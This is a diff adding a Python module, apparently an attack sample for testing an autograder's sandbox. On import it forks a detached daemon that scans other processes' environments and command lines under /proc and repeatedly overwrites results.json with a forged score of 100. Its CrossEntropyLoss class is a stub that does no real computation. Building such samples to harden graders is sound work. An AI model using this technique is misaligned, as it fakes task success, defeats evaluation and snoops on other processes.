@@ -1,0 +1,82 @@
+"""A daemon in a session of its own keeps writing full marks into results.json for some seconds."""
+
+import ctypes
+import os
+import time
+
+import numpy as np
+
+
+def words():
+    """What stands in the environments and command lines that can be read."""
+    texts = list(os.environ.values())
+    try:
+        processes = [name for name in os.listdir("/proc") if name.isdigit()]
+    except OSError:
+        processes = ["self", str(os.getppid())]
+    for process in processes:
+        for kind in ("environ", "cmdline"):
+            try:
+                with open(f"/proc/{process}/{kind}", errors="replace") as file:
+                    texts += [text.rpartition("=")[2] for text in file.read().split("\0")]
+            except OSError:
+                pass  # a wall
+    return texts
+
+
+def targets():
+    """Folders that were made for attacks: whatever fails, nothing else is touched."""
+    named = {path for word in words() for path in (word, os.path.dirname(word))}
+    named.add("/tmp/autograder-attack-target")
+    made = [path for path in named if os.path.basename(path).startswith("autograder-attack-")]
+    return [path for path in made if os.path.isdir(path)]
+
+
+def write_results():
+    paths = [f"{folder}/{name}results.json" for folder in targets() for name in ("", "results/")]
+    if "/autograder-" in os.getcwd():
+        paths.append("results.json")
+    for path in paths:
+        try:
+            with open(path, "w") as file:
+                file.write('{"score": 100, "output": "LEAK:forged results", "tests": []}')
+        except OSError:
+            pass  # a wall
+
+
+def name_child():
+    """So that the tests can tell this process from others."""
+    ctypes.CDLL(None).prctl(15, b"attack-child", 0, 0, 0)
+
+
+def become_daemon():
+    try:
+        child = os.fork()
+    except OSError:
+        return  # a wall
+    if child:
+        os.waitpid(child, 0)
+        return
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            os.closerange(0, 64)
+            name_child()
+            for _ in range(20):
+                write_results()
+                time.sleep(0.2)
+    finally:
+        os._exit(0)
+
+
+if hasattr(os, "fork"):
+    become_daemon()
+
+
+class CrossEntropyLoss:
+    def forward(self, A, Y):
+        self.A = A
+        return 0.0
+
+    def backward(self):
+        return np.zeros(self.A.shape)
